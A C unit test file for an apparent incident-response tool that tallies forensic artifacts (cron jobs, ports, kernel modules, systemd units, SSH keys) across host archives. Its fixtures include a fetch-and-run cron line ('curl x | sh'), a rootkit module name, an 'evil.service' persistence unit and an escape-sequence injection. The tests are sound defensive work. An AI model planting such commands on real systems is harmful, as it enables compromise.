#include <sys/stat.h>

#include "unit.h"

/* ---- a tar file written by hand (ustar), so that the tests build the
 * hostile archives they need ---- */

struct member {
	const char *name;
	const char *data;
};

static void
put_member(FILE *fp, const char *name, const char *data)
{
	unsigned char h[512];
	size_t len = strlen(data), i;
	unsigned sum = 0;
	static const char zero[512];

	memset(h, 0, sizeof h);
	snprintf((char *)h, 100, "%s", name);
	snprintf((char *)h + 100, 8, "%07o", 0644);
	snprintf((char *)h + 108, 8, "%07o", 0);
	snprintf((char *)h + 116, 8, "%07o", 0);
	snprintf((char *)h + 124, 12, "%011o", (unsigned)(len & 07777777));
	snprintf((char *)h + 136, 12, "%011o", 1764547200u);
	memset(h + 148, ' ', 8);
	h[156] = '0';
	memcpy(h + 257, "ustar", 6);
	memcpy(h + 263, "00", 2);
	for (i = 0; i < 512; i++)
		sum += h[i];
	snprintf((char *)h + 148, 8, "%06o", sum);
	assert_int_equal(fwrite(h, 1, 512, fp), 512);
	assert_int_equal(fwrite(data, 1, len, fp), len);
	if (len % 512)
		assert_int_equal(
		    fwrite(zero, 1, 512 - len % 512, fp), 512 - len % 512);
}

/* Writes the members to dir/name; returns the path. */
static char *
make_tar(const char *dir, const char *name, const struct member *m)
{
	char *path;
	FILE *fp;
	static const char zero[1024];

	assert_true(asprintf(&path, "%s/%s", dir, name) > 0);
	assert_non_null(fp = fopen(path, "w"));
	for (; m->name != NULL; m++)
		put_member(fp, m->name, m->data);
	assert_int_equal(fwrite(zero, 1, sizeof zero, fp), sizeof zero);
	assert_int_equal(fclose(fp), 0);
	return path;
}

#define SHA_A "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define SHA_B "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"

static void
test_fields(void **state)
{
	enum irt_stack_field f;
	int i;

	(void)state;
	for (i = 0; i < IRT_STACK_NFIELDS; i++) {
		assert_int_equal(
		    irt_stack_field_parse(
		        &f, irt_stack_field_name((enum irt_stack_field)i)),
		    0);
		assert_int_equal(f, i);
		assert_non_null(irt_stack_field_help((enum irt_stack_field)i));
	}
	assert_int_equal(irt_stack_field_parse(&f, "ports"), IRT_EINVAL);
	/* the message names the fields there are */
	assert_non_null(strstr(irt_error_last(), "listening-port"));
	assert_null(irt_stack_field_name(IRT_STACK_NFIELDS));
}

static void
test_counting(void **state)
{
	struct irt_stack *s;
	const struct irt_stack_row *r;
	const char *const *nc;
	size_t n;

	(void)state;
	assert_int_equal(irt_stack_new(&s, IRT_STACK_CRON), 0);
	assert_int_equal(irt_stack_add(s, "web03", "common"), 0);
	assert_int_equal(irt_stack_add(s, "web01", "common"), 0);
	assert_int_equal(irt_stack_add(s, "web02", "common"), 0);
	assert_int_equal(irt_stack_add(s, "web02", "odd"), 0);
	/* twice for one host (two archives of it): counted once */
	assert_int_equal(irt_stack_add(s, "web02", "odd"), 0);
	assert_int_equal(irt_stack_add(s, "web01", "pair"), 0);
	assert_int_equal(irt_stack_add(s, "web03", "pair"), 0);
	assert_int_equal(irt_stack_add(s, "web01", "also-one"), 0);
	/* seen, but its evidence holds nothing of the field */
	assert_int_equal(irt_stack_host(s, "db01", false), 0);
	/* seen with the field and no value */
	assert_int_equal(irt_stack_host(s, "db02", true), 0);
	assert_int_equal(irt_stack_rows(s, &r, &n), 0);
	assert_int_equal(n, 4);
	/* least frequent first, then by value */
	assert_string_equal(r[0].value, "also-one");
	assert_int_equal(r[0].nhosts, 1);
	assert_string_equal(r[0].hosts[0], "web01");
	assert_string_equal(r[1].value, "odd");
	assert_int_equal(r[1].nhosts, 1);
	assert_string_equal(r[1].hosts[0], "web02");
	assert_string_equal(r[2].value, "pair");
	assert_int_equal(r[2].nhosts, 2);
	assert_string_equal(r[2].hosts[0], "web01");
	assert_string_equal(r[2].hosts[1], "web03");
	assert_string_equal(r[3].value, "common");
	assert_int_equal(r[3].nhosts, 3);
	assert_string_equal(r[3].hosts[2], "web03");
	nc = irt_stack_not_collected(s, &n);
	assert_int_equal(n, 1);
	assert_string_equal(nc[0], "db01");
	assert_int_equal(irt_stack_nhosts(s), 5);
	/* a later value rebuilds the result */
	assert_int_equal(irt_stack_add(s, "db01", "common"), 0);
	assert_int_equal(irt_stack_rows(s, &r, &n), 0);
	assert_int_equal(r[3].nhosts, 4);
	irt_stack_not_collected(s, &n);
	assert_int_equal(n, 0);
	irt_stack_free(s);
}

static const struct irt_stack_row *
row_of(struct irt_stack *s, const char *value, size_t *nrows)
{
	const struct irt_stack_row *r;
	size_t n, i;

	assert_int_equal(irt_stack_rows(s, &r, &n), 0);
	if (nrows)
		*nrows = n;
	for (i = 0; i < n; i++)
		if (strcmp(r[i].value, value) == 0)
			return &r[i];
	return NULL;
}

static void
test_archive_live(void **state)
{
	char *dir = unit_tmpdir(), *a, *host;
	struct irt_stack *s;
	size_t n;
	const struct member m[] = {
		{ "irt/host.json",
		    "{\"hostname\":\"web01\",\"boot_id\":null}" },
		{ "live/processes.jsonl",
		    "{\"pid\":1,\"exe\":\"/usr/sbin/"
		    "sshd\",\"exe_sha256\":\"" SHA_A "\"}\n"
		    "{\"pid\":2,\"exe\":null,\"exe_sha256\":null}\n"
		    "not json\n"
		    "{\"pid\":3,\"exe\":\"/tmp/x\",\"exe_sha256\":\"../\"}\n" },
		{ "live/sockets.jsonl",
		    "{\"proto\":\"tcp6\",\"lport\":22,\"state\":\"LISTEN\"}\n"
		    "{\"proto\":\"tcp\",\"lport\":4444,\"state\":\"LISTEN\"}\n"
		    "{\"proto\":\"tcp\",\"lport\":5555,\"state\":"
		    "\"ESTABLISHED\"}\n"
		    "{\"proto\":\"udp\",\"lport\":53,\"state\":\"UNCONN\"}\n"
		    "{\"proto\":\"tcp\",\"lport\":70000,\"state\":\"LISTEN\"}\n"
		    "{\"proto\":\"tcp\",\"lport\":\"22\",\"state\":\"LISTEN\"}"
		    "\n" },
		{ "live/lsmod.txt",
		    "Module                  Size  Used by\n"
		    "ext4                 1015808  1\n"
		    "diamorphine            16384  0\n" },
		{ NULL, NULL },
	};

	(void)state;
	a = make_tar(dir, "live.tar", m);
	assert_int_equal(irt_stack_new(&s, IRT_STACK_PROCESS_HASH), 0);
	assert_int_equal(irt_stack_add_archive(s, &host, a, NULL), 0);
	assert_string_equal(host, "web01");
	free(host);
	assert_non_null(row_of(s, "/usr/sbin/sshd " SHA_A, &n));
	/* a hash that is not one is not shown as one */
	assert_non_null(row_of(s, "/tmp/x -", NULL));
	assert_int_equal(n, 2);
	irt_stack_free(s);

	assert_int_equal(irt_stack_new(&s, IRT_STACK_LISTENING_PORT), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, "web01"), 0);
	assert_non_null(row_of(s, "tcp/22", &n));
	assert_non_null(row_of(s, "tcp/4444", NULL));
	assert_non_null(row_of(s, "udp/53", NULL));
	assert_int_equal(n, 3);
	irt_stack_free(s);

	assert_int_equal(irt_stack_new(&s, IRT_STACK_KERNEL_MODULE), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	assert_non_null(row_of(s, "diamorphine", &n));
	assert_int_equal(n, 2);
	irt_stack_free(s);

	/* no file collected: not collected, not "none" */
	assert_int_equal(irt_stack_new(&s, IRT_STACK_CRON), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	irt_stack_not_collected(s, &n);
	assert_int_equal(n, 1);
	irt_stack_free(s);
	free(a);
	unit_rmtree(dir);
}

static void
test_archive_files(void **state)
{
	char *dir = unit_tmpdir(), *a;
	struct irt_stack *s;
	size_t n;
	const struct member m[] = {
		{ "irt/host.json", "{\"hostname\":\"web02.example.org\"}" },
		{ "fs/etc/hostname", "web02\n" },
		{ "fs/etc/crontab",
		    "# comment\nSHELL=/bin/sh\n\n"
		    "17 * * * * root run-parts /etc/cron.hourly\r\n" },
		{ "fs/etc/cron.d/upd", "  * * * * * root curl x | sh  \n" },
		{ "fs/etc/cron.daily/logrotate", "#!/bin/sh\n" },
		{ "fs/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n" },
		{ "fs/home/ann/.ssh/authorized_keys2",
		    "# old\nssh-rsa BBBB ann\n" },
		{ "fs/home/ann/.ssh/x/authorized_keys", "ssh-rsa CCCC no\n" },
		{ "irt/manifest.jsonl",
		    "{\"path\":\"/etc/"
		    "crontab\",\"type\":\"file\",\"mode\":\"0644\"}\n"
		    "{\"path\":\"/etc/cron.daily/logrotate\",\"type\":\"file\","
		    "\"mode\":\"0755\"}\n"
		    "{\"path\":\"/usr/bin/"
		    "su\",\"type\":\"file\",\"mode\":\"4755\","
		    "\"sha256\":\"" SHA_B "\"}\n"
		    "{\"path\":\"/usr/bin/"
		    "wall\",\"type\":\"file\",\"mode\":\"2755\","
		    "\"sha256\":null}\n"
		    "{\"path\":\"/usr/bin/"
		    "ls\",\"type\":\"file\",\"mode\":\"0755\"}\n"
		    "{\"path\":\"/etc/systemd/system/evil.service\",\"type\":"
		    "\"file\",\"mode\":\"0644\",\"sha256\":\"" SHA_A "\"}\n"
		    "{\"path\":\"/etc/systemd/system/multi-user.target.wants/"
		    "evil.service\",\"type\":\"symlink\",\"target\":"
		    "\"/etc/systemd/system/evil.service\"}\n"
		    "{\"path\":\"/etc/systemd/system/"
		    "notes.txt\",\"type\":\"file\"}\n" },
		{ NULL, NULL },
	};

	(void)state;
	a = make_tar(dir, "files.tar", m);
	assert_int_equal(irt_stack_new(&s, IRT_STACK_CRON), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	assert_non_null(row_of(s, "/etc/crontab: SHELL=/bin/sh", &n));
	assert_non_null(row_of(s,
	    "/etc/crontab: 17 * * * * root run-parts /etc/cron.hourly", NULL));
	assert_non_null(
	    row_of(s, "/etc/cron.d/upd: * * * * * root curl x | sh", NULL));
	assert_non_null(row_of(s, "/etc/cron.daily/logrotate", NULL));
	assert_int_equal(n, 4);
	irt_stack_free(s);

	assert_int_equal(irt_stack_new(&s, IRT_STACK_AUTHORIZED_KEY), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	assert_non_null(row_of(s, "root: ssh-ed25519 AAAA admin", &n));
	assert_non_null(row_of(s, "ann: ssh-rsa BBBB ann", NULL));
	assert_int_equal(n, 2);
	irt_stack_free(s);

	assert_int_equal(irt_stack_new(&s, IRT_STACK_SUID), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	assert_non_null(row_of(s, "/usr/bin/su 4755 " SHA_B, &n));
	assert_non_null(row_of(s, "/usr/bin/wall 2755 -", NULL));
	assert_int_equal(n, 2);
	irt_stack_free(s);

	assert_int_equal(irt_stack_new(&s, IRT_STACK_SYSTEMD_UNIT), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), 0);
	assert_non_null(
	    row_of(s, "/etc/systemd/system/evil.service " SHA_A, &n));
	assert_non_null(row_of(s,
	    "/etc/systemd/system/multi-user.target.wants/evil.service -> "
	    "/etc/systemd/system/evil.service",
	    NULL));
	assert_int_equal(n, 2);
	irt_stack_free(s);
	free(a);
	unit_rmtree(dir);
}

static void
test_archive_hostile(void **state)
{
	char *dir = unit_tmpdir(), *a, *host;
	struct irt_stack *s;
	const struct irt_stack_row *r;
	size_t n;
	const struct member none[] = { { "fs/etc/crontab", "x\n" },
		{ NULL, NULL } };
	const struct member lying[] = {
		{ "irt/host.json", "{\"hostname\":\"web01\"}" },
		{ "fs/etc/crontab", "* * * * * root evil\n" },
		{ "fs/etc/hostname", "db09\n" },
		{ NULL, NULL },
	};
	const struct member twice[] = {
		{ "irt/host.json", "{\"hostname\":\"web01\"}" },
		{ "irt/host.json", "{\"hostname\":\"web02\"}" },
		{ NULL, NULL },
	};
	const struct member esc[] = {
		{ "irt/host.json", "{\"hostname\":\"web\\u001b[31mX\"}" },
		{ NULL, NULL },
	};
	const struct member nul[] = {
		{ "irt/host.json", "{\"hostname\":\"web\\u0000x\"}" },
		{ NULL, NULL },
	};
	const struct member notjson[] = {
		{ "irt/host.json", "[\"web01\"]" },
		{ NULL, NULL },
	};
	const struct member nohost[] = {
		{ "irt/host.json", "{\"hostname\":null}" },
		{ NULL, NULL },
	};

	(void)state;
	assert_int_equal(irt_stack_new(&s, IRT_STACK_CRON), 0);
	a = make_tar(dir, "none.tar", none);
	assert_int_equal(
	    irt_stack_add_archive(s, &host, a, NULL), IRT_ENOTFOUND);
	assert_null(host);
	assert_non_null(strstr(irt_error_last(), "no irt/host.json"));
	assert_non_null(strstr(irt_error_last(), "none.tar"));
	free(a);
	a = make_tar(dir, "lying.tar", lying);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	assert_non_null(strstr(irt_error_last(), "'db09'"));
	assert_int_equal(irt_archive_host(&host, a), IRT_EPARSE);
	free(a);
	a = make_tar(dir, "twice.tar", twice);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	assert_non_null(strstr(irt_error_last(), "2 times"));
	free(a);
	a = make_tar(dir, "esc.tar", esc);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	/* the message is escaped */
	assert_null(strchr(irt_error_last(), '\033'));
	assert_non_null(strstr(irt_error_last(), "bad host name"));
	free(a);
	a = make_tar(dir, "nul.tar", nul);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	free(a);
	a = make_tar(dir, "notjson.tar", notjson);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	free(a);
	a = make_tar(dir, "nohost.tar", nohost);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EPARSE);
	assert_non_null(strstr(irt_error_last(), "names no host"));
	free(a);
	/* a directory, a FIFO: refused, never read */
	assert_int_equal(irt_stack_add_archive(s, NULL, dir, NULL), IRT_EINVAL);
	assert_true(asprintf(&a, "%s/fifo", dir) > 0);
	assert_int_equal(mkfifo(a, 0600), 0);
	assert_int_equal(irt_stack_add_archive(s, NULL, a, NULL), IRT_EINVAL);
	free(a);
	/* nothing of the refused archives was counted */
	assert_int_equal(irt_stack_rows(s, &r, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(irt_stack_nhosts(s), 0);
	irt_stack_free(s);
	unit_rmtree(dir);
}

static void
test_custody_host(void **state)
{
	char *dir = unit_tmpdir(), *a;
	struct irt_stack *s;
	const struct member m[] = {
		{ "irt/host.json", "{\"hostname\":\"web01\"}" },
		{ NULL, NULL },
	};

	(void)state;
	a = make_tar(dir, "ok.tar", m);
	assert_int_equal(irt_stack_new(&s, IRT_STACK_SUID), 0);
	assert_int_equal(
	    irt_stack_add_archive(s, NULL, a, "web07"), IRT_EPARSE);
	assert_non_null(strstr(irt_error_last(), "custody record"));
	assert_int_equal(irt_stack_add_archive(s, NULL, a, "web01"), 0);
	irt_stack_free(s);
	free(a);
	unit_rmtree(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_counting),
		cmocka_unit_test(test_archive_live),
		cmocka_unit_test(test_archive_files),
		cmocka_unit_test(test_archive_hostile),
		cmocka_unit_test(test_custody_host),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
